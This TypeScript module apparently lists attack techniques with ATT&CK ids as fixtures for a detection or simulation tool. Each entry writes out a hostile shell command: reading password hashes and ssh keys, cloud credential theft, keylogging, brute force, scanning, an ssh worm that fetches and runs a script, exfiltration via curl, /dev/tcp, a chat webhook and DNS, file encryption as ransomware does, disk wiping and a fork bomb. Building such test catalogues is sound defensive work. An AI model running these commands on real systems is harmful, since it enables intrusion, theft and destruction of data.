/**
 * Techniques by which intruders take credentials, look around, spread, steal and destroy.
 *
 * @module
 */
import { each, type Technique, WWW_DATA } from "./technique.ts";

export const COLLECTION: readonly Technique[] = [
  { name: "Password hashes read", id: "T1003.008", steps: ["base64 -w0 /etc/shadow"] },
  {
    name: "Memory of a process dumped",
    id: "T1003.007",
    steps: ["gdb -p 812 -batch -ex 'generate-core-file /dev/shm/c'"],
  },
  {
    name: "Memory of a process read",
    id: "T1003.007",
    steps: ["dd if=/proc/1234/mem of=/tmp/m bs=4096 skip=1 count=100"],
  },
  { name: "Private key for ssh read", id: "T1552.004", uid: WWW_DATA, steps: ["cat /root/.ssh/id_rsa"] },
  { name: "Secrets searched for", id: "T1552.001", steps: ["grep -rn 'BEGIN OPENSSH PRIVATE KEY' /home"] },
  {
    name: "Passwords in a history",
    id: "T1552.003",
    steps: ["grep -i pass /root/.bash_history /home/alice/.bash_history"],
  },
  {
    name: "Credentials of the cloud",
    id: "T1552.005",
    steps: ["curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web"],
  },
  {
    name: "Store of a browser copied",
    id: "T1555.003",
    steps: ["cp /home/alice/.mozilla/firefox/x1.default/key4.db /tmp/.k"],
  },
  { name: "Tickets of Kerberos copied", id: "T1558.005", steps: ["cp /tmp/krb5cc_1000 /tmp/.x"] },
  {
    name: "Environments of all processes",
    id: "T1552",
    steps: ["strings /proc/1/environ /proc/412/environ /proc/413/environ"],
  },
  { name: "Keystrokes recorded", id: "T1056.001", steps: ["logkeys --start --output /tmp/.l"] },
  { name: "Login traced", id: "T1056.001", steps: ["strace -f -p 812 -e trace=read,write -s 256 -o /tmp/.l"] },
  { name: "Traffic captured", id: "T1040", steps: ["tcpdump -i any -w /tmp/a.pcap"] },
  {
    name: "Passwords for su guessed",
    alone: true,
    id: "T1110.001",
    steps: [{ run: "su root -c id", times: 6, exit: 1 }],
  },
  {
    name: "Password for su guessed in the end",
    alone: true,
    id: "T1110.001",
    steps: [{ run: "su root -c true", times: 4, exit: 1 }, "su root -c true"],
  },
  {
    name: "Passwords for ssh guessed",
    alone: true,
    id: "T1110.001",
    steps: [{ run: "sshpass -p x ssh root@192.0.2.7 id", times: 11, exit: 5 }],
  },
  { name: "Tool that guesses passwords", id: "T1110.003", steps: ["hydra -L users -P pass ssh://192.0.2.7"] },
  { name: "Network scanned", id: "T1046", steps: ["nmap -sS -p- 192.0.2.0/24"] },
  {
    name: "Network scanned by a shell",
    id: "T1018",
    steps: ["bash -c 'for i in $(seq 1 254); do ping -c1 -W1 192.0.2.$i & done'"],
  },
  { name: "Internet scanned", id: "T1595.001", steps: ["masscan 0.0.0.0/0 -p22,2375,6379 --rate=10000"] },
  {
    name: "Directory of accounts searched",
    id: "T1087.002",
    steps: ["ldapsearch -x -H ldap://dc1 -b dc=example,dc=org '(&(objectClass=user)(servicePrincipalName=*))'"],
  },
  {
    name: "Neighbours looked up, and one entered",
    id: "T1021.004",
    steps: ["cat /root/.ssh/known_hosts", "arp -a", "ssh -o StrictHostKeyChecking=no root@192.0.2.7 id"],
  },
  {
    name: "Worm over ssh",
    id: "T1021.004",
    steps: [
      "bash -c 'for h in $(cat ~/.ssh/known_hosts); do ssh -oBatchMode=yes -oStrictHostKeyChecking=no $h \"curl http://203.0.113.9/i|sh\"; done'",
    ],
  },
  { name: "Agent of ssh hijacked", id: "T1563.001", steps: ["env SSH_AUTH_SOCK=/tmp/ssh-Ab12/agent.812 ssh-add -l"] },
  { name: "Tool of lateral movement", id: "T1021.002", steps: ["nxc smb 192.0.2.0/24 -u admin -H aad3b435"] },
  { name: "Data packed in shared memory", id: "T1074.001", steps: ["tar czf /dev/shm/e.tgz /etc /root"] },
  { name: "Data packed under a password", id: "T1560.001", steps: ["7z a -pzzzz -mhe=on /tmp/.d.7z /home /srv"] },
  {
    name: "Data packed, and then sent",
    id: "T1041",
    steps: ["tar czf /tmp/e.tgz bin", "curl -T /tmp/e.tgz https://files.example.net/"],
  },
  { name: "File sent to a bare address", id: "T1048.003", steps: ["curl -F f=@/tmp/a.tgz http://203.0.113.9:8000/u"] },
  {
    name: "File sent through a shell's socket",
    id: "T1048.003",
    steps: ["bash -c 'tar czf - /etc /home > /dev/tcp/203.0.113.9/443'"],
  },
  {
    name: "File sent to a chat",
    id: "T1567.004",
    steps: ["curl -F file=@/etc/passwd https://discord.com/api/webhooks/1/x"],
  },
  {
    name: "Data hidden in name lookups",
    id: "T1048.003",
    steps: ["dig cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaAphbGljZQ.x.example.net"],
  },
  { name: "Copy tool made for theft", id: "T1567.002", steps: ["rclone copy /srv mega:x --transfers 16"] },
  {
    name: "Files encrypted one by one",
    id: "T1486",
    steps: each(
      8,
      "sh -c 'echo x > {dir}/#'",
      "openssl enc -aes-256-cbc -pbkdf2 -k zz -in {dir}/# -out {dir}/#.x",
      "rm -f {dir}/#",
    )
      .map((step) => ({ ...step, real: true })),
  },
  {
    name: "Files renamed as ransomware names them",
    id: "T1486",
    steps: each(10, "touch {dir}/d#", "mv {dir}/d# {dir}/d#.locked").map((step) => ({ ...step, real: true })),
  },
  {
    name: "Files encrypted by find",
    id: "T1486",
    steps: ["find /srv -type f -exec openssl enc -aes-256-cbc -k zz -in {} -out {}.locked ;"],
  },
  { name: "Backups destroyed", id: "T1490", steps: ["rm -rf /var/backups"] },
  { name: "Disk wiped", id: "T1561.001", steps: ["dd if=/dev/urandom of=/dev/sda bs=4M"] },
  { name: "Miner", id: "T1496", steps: ["xmrig -o stratum+tcp://pool.example.net:3333 -u 4A -p x"] },
  { name: "Rival miners killed", id: "T1489", steps: ["pkill -9 -f kdevtmpfsi"] },
  { name: "Fork bomb as text", id: "T1499.001", steps: ["bash -c ':(){ :|:& };:'"] },
  { name: "Fork bomb that forks", id: "T1499.001", steps: [{ run: "b", forks: 7 }] },
  { name: "Flood", id: "T1498.001", steps: ["hping3 -S --flood -p 80 203.0.113.9"] },
  { name: "Host forced down", id: "T1529", steps: ["systemctl reboot --force --force"] },
];
